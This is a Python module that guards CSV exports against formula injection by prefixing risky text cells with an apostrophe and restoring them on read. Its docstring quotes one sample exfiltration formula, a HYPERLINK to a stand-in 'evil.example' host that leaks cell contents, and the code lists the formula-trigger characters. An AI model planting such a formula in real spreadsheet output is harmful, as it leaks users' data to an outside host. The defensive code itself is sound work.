"""CSV cells a spreadsheet cannot run as formulas, and the exact values back on reading.

Spreadsheet programs treat a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, in
some, a tab or carriage return) as a formula, so a customer id or segment name such as
``=HYPERLINK("http://evil.example/?"&A1)`` written to a CSV file runs when a marketer
opens it ("CSV injection"). Every CSV file segmentkit writes goes through
:func:`neutralise_frame`, which prefixes such text cells with ``'`` (the usual
spreadsheet convention: the cell is shown as text, the apostrophe hidden).

A value that already starts with ``'`` followed by one of those characters or by another
``'`` gets the prefix too, so :func:`restore_text` can strip exactly one ``'`` from every
cell that starts with ``'`` and a character of that set, and every value reads back as
written. An id such as ``'abc`` (an apostrophe then an ordinary character) is written
and read unchanged. Numbers are never touched: ``-5`` in a numeric column is a number,
not text. Parquet and JSON files keep every value as it is.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd

from segmentkit._common._files import PathLike, write_atomic

__all__ = ["neutralise_frame", "read_csv", "restore_frame", "restore_text", "write_csv"]

#: First characters that make a spreadsheet cell a formula (OWASP's list).
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
_CLASS = "=+\\-@\t\r"
# Text that needs the prefix: a dangerous first character, or an apostrophe the reader
# would otherwise take for a prefix.
_NEEDS_PREFIX = rf"^(?:[{_CLASS}]|'['{_CLASS}])"
# A prefix the writer added: an apostrophe before a dangerous character or another one.
_HAS_PREFIX = rf"^'(?=['{_CLASS}])"


def _is_text_dtype(dtype: Any) -> bool:
    return (
        pd.api.types.is_object_dtype(dtype)
        or pd.api.types.is_string_dtype(dtype)
        or isinstance(dtype, pd.CategoricalDtype)
    )


def _convert_values(values: pd.Series | pd.Index, pattern: str, prefix: bool) -> Any:
    """Apply the prefix (or remove it) on the unique values, then map them back."""
    if isinstance(values.dtype, pd.CategoricalDtype):
        categories = values.cat.categories if isinstance(values, pd.Series) else values.categories
        new = _convert_values(pd.Index(categories), pattern, prefix)
        if new is categories:
            return values
        renamed = dict(zip(categories, new, strict=True))
        if isinstance(values, pd.Series):
            return values.cat.rename_categories(renamed)
        return values.rename_categories(renamed)
    if not _is_text_dtype(values.dtype) or len(values) == 0:
        return values
    codes, uniques = pd.factorize(values, use_na_sentinel=True)
    texts = pd.Series(np.asarray(uniques, dtype=object), dtype=object)
    # .str on an object column gives NaN for non-text values (numbers, None): untouched.
    hit = texts.str.contains(pattern, regex=True, na=False).to_numpy(dtype=bool)
    if not hit.any():
        return values
    changed = texts.to_numpy(dtype=object).copy()
    if prefix:
        changed[hit] = "'" + texts[hit].astype(str)
    else:
        changed[hit] = texts[hit].astype(str).str.slice(1)
    mapped = changed[np.maximum(codes, 0)]  # fancy indexing: a new array
    missing = codes < 0
    if missing.any():
        # Keep each missing value as it was (NaN, None, pd.NA).
        mapped[missing] = np.asarray(values, dtype=object)[missing]
    if isinstance(values, pd.Series):
        return pd.Series(mapped, index=values.index, name=values.name, dtype=object)
    return pd.Index(mapped, name=values.name, dtype=object)


def _convert_index(index: pd.Index, pattern: str, prefix: bool) -> pd.Index:
    if isinstance(index, pd.MultiIndex):
        levels = [_convert_values(level, pattern, prefix) for level in index.levels]
        names = [_convert_label(n, pattern, prefix) for n in index.names]
        return index.set_levels(levels).set_names(names)
    converted = _convert_values(index, pattern, prefix)
    return converted.rename(_convert_label(index.name, pattern, prefix))


def _convert_label(label: Any, pattern: str, prefix: bool) -> Any:
    if not isinstance(label, str):
        return label
    return _convert_values(pd.Index([label], dtype=object), pattern, prefix)[0]


def neutralise_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells, index labels and headers no spreadsheet runs.

    Parameters
    ----------
    frame : pandas.DataFrame
        The table about to be written as CSV.

    Returns
    -------
    pandas.DataFrame
        Text starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return (or
        with ``'`` and one of those, or ``''``) prefixed with ``'``; numbers unchanged.

    Examples
    --------
    >>> import pandas as pd
    >>> neutralise_frame(pd.DataFrame({"id": ["=1+2", "a", "'b"], "n": [-1, 2, 3]}))
         id  n
    0  '=1+2 -1
    1     a  2
    2    'b  3
    """
    out = frame.copy(deep=False)
    out.columns = _convert_index(frame.columns, _NEEDS_PREFIX, prefix=True)
    out.index = _convert_index(frame.index, _NEEDS_PREFIX, prefix=True)
    for position in range(out.shape[1]):
        column = frame.iloc[:, position]
        converted = _convert_values(column, _NEEDS_PREFIX, prefix=True)
        if converted is not column:
            out.isetitem(position, converted)
    return out


def restore_text(values: pd.Series) -> pd.Series:
    """Undo :func:`neutralise_frame` on one column read from a CSV file segmentkit wrote.

    Parameters
    ----------
    values : pandas.Series
        Text read from the file.

    Returns
    -------
    pandas.Series
        The values as they were before writing.

    Examples
    --------
    >>> import pandas as pd
    >>> restore_text(pd.Series(["'=1+2", "a", "'b", "''+x"])).tolist()
    ['=1+2', 'a', "'b", "'+x"]
    """
    return _convert_values(values, _HAS_PREFIX, prefix=False)


def restore_frame(frame: pd.DataFrame, columns: Iterable[str] | None = None) -> pd.DataFrame:
    """Undo :func:`neutralise_frame` on the text ``columns`` (all text columns by default)."""
    out = frame.copy(deep=False)
    out.columns = _convert_index(frame.columns, _HAS_PREFIX, prefix=False)
    chosen = list(out.columns) if columns is None else [c for c in columns if c in out]
    for name in chosen:
        out[name] = restore_text(out[name])
    return out


def write_csv(path: PathLike, frame: pd.DataFrame, **options: Any) -> Path:
    """Write ``frame`` as CSV atomically, with every cell safe to open in a spreadsheet.

    ``options`` go to :meth:`pandas.DataFrame.to_csv` (``index``, ``float_format``...).
    """
    safe = neutralise_frame(frame)
    if _has_carriage_return(safe):
        # The csv module quotes a cell only for characters of the line terminator ("\n"),
        # so a lone "\r" would end the row for most readers: quote every text cell.
        options.setdefault("quoting", csv.QUOTE_NONNUMERIC)
    return write_atomic(path, lambda tmp: safe.to_csv(tmp, **options))


def _has_carriage_return(frame: pd.DataFrame) -> bool:
    parts: list[Any] = [frame.columns, pd.Index(frame.index.names, dtype=object)]
    parts += [frame.index.get_level_values(i) for i in range(frame.index.nlevels)]
    parts += [frame.iloc[:, i] for i in range(frame.shape[1])]
    for values in parts:
        if not _is_text_dtype(values.dtype) or len(values) == 0:
            continue
        uniques = pd.Series(pd.unique(np.asarray(values, dtype=object)), dtype=object)
        if uniques.str.contains("\r", regex=False, na=False).any():
            return True
    return False


# pandas' default missing-value markers, kept for the columns that are not text ids.
_NA_MARKERS = (
    "",
    "#N/A",
    "#N/A N/A",
    "#NA",
    "-1.#IND",
    "-1.#QNAN",
    "-NaN",
    "-nan",
    "1.#IND",
    "1.#QNAN",
    "<NA>",
    "N/A",
    "NA",
    "NULL",
    "NaN",
    "None",
    "n/a",
    "nan",
    "null",
)


def read_csv(path: PathLike, text: Iterable[str]) -> pd.DataFrame:
    """Read a CSV file segmentkit wrote, giving the ``text`` columns back exactly.

    The ``text`` columns (ids, names) are read as text with no missing-value guessing
    (an id ``NA`` stays ``"NA"``) and their spreadsheet prefix removed; the other
    columns are read as pandas reads them.
    """
    chosen = list(text)
    header = pd.read_csv(path, nrows=0).columns
    present = [c for c in chosen if c in header]
    return restore_frame(
        pd.read_csv(
            path,
            dtype=dict.fromkeys(present, str),
            keep_default_na=False,
            na_values={c: list(_NA_MARKERS) for c in header if c not in present},
        ),
        present,
    )
